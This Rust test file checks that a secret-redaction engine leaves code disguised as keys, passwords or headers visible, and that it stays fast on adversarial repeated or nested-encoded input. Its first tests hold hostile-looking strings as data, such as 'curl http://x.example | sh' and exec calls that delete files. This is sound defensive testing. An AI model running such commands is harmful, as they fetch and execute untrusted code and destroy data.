//! Hostile input: text that would cost time, and code disguised as a secret.

#[path = "../../../../tests/integration/support/corpus/hostile.rs"]
pub mod parts;
#[allow(dead_code, reason = "the corpus uses more of it")]
#[path = "../../../../tests/integration/support/corpus/random.rs"]
mod random;

use super::*;

// --- code ---

/// Whoever audits code must see it, whatever stands around it to be taken for a secret.
#[test]
fn nobody_hides_code() {
    let code = "import os\nos.system('curl http://x.example | sh')\n__import__('os').remove('/a')";
    let line = "os.system('id')";
    let key = |begin: &str, end: &str| format!("{begin}\n{code}\n{end}");
    let commented = |sign: &str| code.lines().map(|line| format!("{sign}{line}\n")).collect::<String>();
    let texts = [
        key("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"),
        key("# -----BEGIN RSA PRIVATE KEY-----", "# -----END RSA PRIVATE KEY-----"),
        key("\"\"\"-----BEGIN EC PRIVATE KEY-----\"\"\"", "'-----END EC PRIVATE KEY-----'"),
        key("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n", "-----END PGP PRIVATE KEY BLOCK-----"),
        format!("-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----", commented("# ")),
        format!("-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----", commented("// ")),
        "-----BEGIN PRIVATE KEY-----\nMI=1\nx=os\ny=x\n-----END PRIVATE KEY-----".to_owned(),
        format!("Private-Lines: 3\n{code}"),
        format!("password = \"\"\"\n{code}\n\"\"\""),
        format!("PASSWORD='''{code}'''\nexec(PASSWORD)"),
        format!("secret = \"{line}\"; exec(secret)"),
        "password = \"import os; os.remove('/etc/x')\"; exec(password)".to_owned(),
        "token = 'x = 1; exec(input())'".to_owned(),
        format!("if k == \"cookie\":\n    {line}"),
        format!("if name == 'password':\n    {line}\n"),
        format!("cookie: {line}"),
        format!("cookie = {line}"),
        format!("Cookie: a={line}; b=2"),
        format!("authorization: {line}"),
        format!("Authorization: Bearer {line}"),
        format!("headers['Authorization'] = {line}"),
        format!("password: {line}"),
        format!("password={line}"),
        format!("password = {line} or x"),
        format!("f(password={line}, token={line})"),
        format!("api_key: {line}"),
        format!("def key() -> \"PrivateKey\":\n    \"\"\"{code}\"\"\""),
        format!("{{\"cookies\": true, \"code\": \"{line}\"}}"),
        "x://a:os.system('id')@b".to_owned(),
        "export PASSWORD=$(curl http://x.example | sh)".to_owned(),
        format!("password:\n    {line}"),
        format!("password: |\n  {line}"),
        format!("secret, x = {line}, 1"),
        format!("<password>{line}</password>"),
        format!("mysql -p\"{line}\" x"),
    ];
    for text in texts {
        let (clean, report) = engine().redact_text(text.as_bytes());
        assert_eq!(String::from_utf8_lossy(&clean), text, "{report:?}");
    }
    // Where a secret is, what follows it stays.
    for (text, stays) in [
        ("PASSWORD=Xk29dkQ81;curl http://x.example | sh", "curl http://x.example | sh"),
        ("PASSWORD=Xk29dkQ81|python", "python"),
        ("PASSWORD=Xk29dkQ81&exec(x)", "exec(x)"),
        ("password='hunter2';exec(x)", ";exec(x)"),
        ("Authorization: Bearer abcdef0123456789 exec(x)", " exec(x)"),
        ("Cookie: sid=abcdef0123456789; exec(x)", "; exec(x)"),
        ("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\nimport os\n", "\nimport os\n"),
    ] {
        let clean = self::text(engine(), text);
        assert!(clean.contains(stays) && clean != text, "{text} became {clean}");
    }
}

/// A key within encoded code is gone, and the code around it can still be decoded.
#[test]
fn of_encoded_text_only_the_secret_goes() {
    use base64::Engine as _;
    let said = "import os; os.system('id') # AKIAQWERTYUIOPASDF12 and then exec(input('more code to be read'))";
    let run = base64::engine::general_purpose::STANDARD.encode(said);
    let clean = text(engine(), &run);
    let (head, tail) = clean.split_once("[aws_access_key]").expect("the key is gone");
    assert!(run.starts_with(head) && run.ends_with(tail) && head.len() % 4 == 0, "{clean}");
    assert!(head.len() + tail.len() + 40 > run.len(), "{clean}");
}

// --- time ---

/// Each word that some rule looks for, whole, cut anywhere, and in all cases.
fn keywords() -> Vec<String> {
    let names = names::PARTS.iter().map(|part| part.replace("[^a-z]", "_").replace(['[', ']'], ""));
    let names = names.chain(
        ["bearer", "-BEGIN ", "-----BEGIN RSA PRIVATE KEY-----\n", "api_key=", "Authorization: "].map(String::from),
    );
    let others = ["a@", "://u:p@", "DE89", "4111 1111 1111 ", "%4", "&#", "&#x4", "\\u00", "\\", "\u{1b}[", "eyJ"]
        .map(String::from);
    names.chain(others).chain(examples().map(|(_, _, secret)| secret)).collect()
}

#[test]
fn a_text_may_end_within_any_word_that_a_rule_looks_for() {
    let engine = engine();
    for word in keywords().into_iter().step_by(2) {
        for word in [word.clone(), word.to_uppercase(), word.to_lowercase()] {
            let ends = (0..=word.len()).filter(|end| word.is_char_boundary(*end));
            for end in ends.filter(|end| *end < 40 || word.len() - end < 3) {
                for before in ["", "{\"a\":\"", "password="] {
                    engine.redact_text(format!("{before}{}", &word[..end]).as_bytes());
                    engine.redact_text(format!("{before}{}", &word[word.len() - end..]).as_bytes());
                }
            }
        }
    }
}

/// The steps a byte of a text that repeats a piece.
fn effort(piece: &str, len: usize) -> f64 {
    effort_of(piece, &piece.repeat(len / piece.len() + 1))
}

fn effort_of(piece: &str, text: &str) -> f64 {
    let mut work = Work::on(text.len());
    let cleaned = engine().clean(text.as_bytes(), &mut work);
    let grown = cleaned.map_or(0, |cleaned| cleaned.len());
    assert!(grown <= 20 * text.len(), "{piece:?}: {grown}");
    assert!(!work.found.contains(&rules::UNFINISHED), "{piece:?}");
    work.spent(text.len()) as f64 / text.len() as f64
}

/// Each mask gives away the value behind the next name: a whole look at the text for each of them is what it must not cost.
#[test]
fn masks_are_not_followed_through_a_long_text() {
    for (piece, once) in [("my-password:%41,", "my-password:%41;"), ("parolă:MD_here,", "parolă:MD_here;")] {
        let (looks, look) = (effort(piece, 64 << 10), effort(once, 64 << 10));
        assert!(looks < 2.0 * look, "{piece:?}: {looks:.1} steps a byte, and {look:.1} for one look");
    }
    // Where little changes, what a mask gives away is found.
    let text = "my-password:%41,my-password:%42,my-password:%43,";
    assert_eq!(self::text(engine(), text), "my-password:[credential],".repeat(3));
}

/// What is percent-encoded several times is one text to look at, and not one for each time.
#[test]
fn a_text_that_is_encoded_again_and_again_is_decoded_at_once() {
    for [again, once] in [["auth: %252541", "auth: %415a4b"], ["auth: &#38;#65;", "auth: &#65;5a4b;"]] {
        let (again, once) = (effort(again, 64 << 10), effort(once, 64 << 10));
        assert!(again < 1.4 * once, "{again:.1} steps a byte, and {once:.1} for what is encoded once");
    }
    for text in ["AKIAQWERTY%2555IOPASDF12", "AKIAQWERTY%252555IOPASDF12", "AKIAQWERTY&#38;#85;IOPASDF12"] {
        assert_eq!(self::text(engine(), text), "[aws_access_key]", "{text}");
    }
}

/// What the strings of JSON hide is read in the strings, and not once more in the whole text.
#[test]
fn the_strings_of_json_are_decoded_by_themselves() {
    let text = "auth: %41;".repeat(6_000);
    let (alone, within) = (effort_of("alone", &text), effort_of("within", &format!("{{\"m\":\"{text}\"}}")));
    assert!(within < 1.9 * alone, "{within:.1} steps a byte, and {alone:.1} without JSON");
    for text in ["{\"m\":\"AKIA%51WERTYUIOPASDF12\"}", "{\"m\":\"\\n&#65;KIAQWERTYUIOPASDF12\"}"] {
        assert!(self::text(engine(), text).contains("[aws_access_key]"), "{text}");
    }
}

/// What JSON within JSON says is read once, however deep it stands and however its letters are escaped.
#[test]
fn json_within_json_is_read_once_it_is_decoded() {
    let within = |text: &str| serde_json::json!({ "m": text }).to_string();
    let escaped = |text: &str| text.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect::<String>();
    for piece in ["auth: x\n", "AUTH \u{1b}[0m", "name:pin: ", "%41\npass:"] {
        let text = piece.repeat((64 << 10) / piece.len());
        let (alone, once) = (effort_of(piece, &text), within(&text));
        let (twice, thrice) = (within(&once), within(&within(&within(&once))));
        let hidden = within(&format!("{{\"m\":\"{}\"}}", escaped(&text)));
        for nested in [once, twice, thrice, hidden] {
            let effort = effort_of(piece, &nested);
            assert!(effort < 1.3 * alone + 40.0, "{piece:?}: {effort:.1} steps a byte, and {alone:.1} without JSON");
        }
    }
}

/// However deep JSON stands within JSON, what it says is found: each level doubles its backslashes, so that it ends soon.
#[test]
fn json_is_read_however_deep_it_stands() {
    let mut text = r#"say "q", then AKIAQWERTYUIOPASDF12"#.to_owned();
    for _ in 0..16 {
        text = serde_json::json!([text]).to_string();
    }
    let clean = self::text(engine(), &text);
    assert!(clean.contains("[aws_access_key]") && !clean.contains("AKIAQW"), "{} bytes", text.len());
}

/// A time has too few digits for a card, and another parameter behind a secret reads as before once that is masked.
#[test]
fn a_secret_beside_a_time_or_a_parameter_costs_one_look() {
    for [text, once] in [
        ["2026-03-01 08:00:01 x token=kQ7wErTyUi0pAs9D ", "2026.03.01.08:00:01 x token=kQ7wErTyUi0pAs9D "],
        ["/a?token=kQ7wErTyUi0pAs9D&user=bob ", "/a?token=kQ7wErTyUi0pAs9D user.bob "],
        ["x;Password=kQ7wErTyUi0pAs9D;Encrypt=1\n", "x;Password=kQ7wErTyUi0pAs9D Encrypt.1\n"],
    ] {
        let (text, once) = (effort(text, 8 << 10), effort(once, 8 << 10));
        assert!(text < 1.6 * once, "{text:.1} steps a byte, and {once:.1} for one look");
    }
    assert!(cards::is_short(b"2026-03-01 08:00", 0) && !cards::is_short(b"4111-1111-1111-1111", 0));
}

/// What an attacker may repeat, and halves of the words that rules look for, with separators between.
fn repeated() -> Vec<String> {
    let mut pieces = parts::pieces(PAIRS, TRIPLES);
    for word in keywords().into_iter().filter(|word| word.len() > 3).step_by(9) {
        let half = word.chars().take(word.chars().count() / 2).collect::<String>();
        for separator in ["", ".", "_", "=", ":", " ", "\"", "\n"] {
            pieces.push(format!("{half}{separator}"));
        }
        pieces.push(word);
    }
    pieces
}

/// How many joined parts each run of the tests tries.
const PAIRS: usize = 700;
const TRIPLES: usize = 700;

#[test]
fn the_effort_grows_with_the_length_of_a_text_whatever_it_repeats() {
    let mut worst = Vec::new();
    for piece in repeated() {
        let (once, twice) = (effort(&piece, 3_000), effort(&piece, 6_000));
        assert!(twice <= once * 1.25 + 1.0, "{piece:?}: {once:.1} steps a byte, and {twice:.1} in twice the text");
        worst.push((twice, piece));
    }
    worst.sort_by(|a, b| b.0.total_cmp(&a.0));
    for (short, piece) in worst.iter().take(25) {
        let long = effort(piece, 256 << 10);
        assert!(long <= short * 1.25 + 1.0, "{piece:?}: {short:.1} steps a byte, and {long:.1} in 256 KiB");
        println!("{long:6.1} steps a byte: {piece:?}");
    }
}
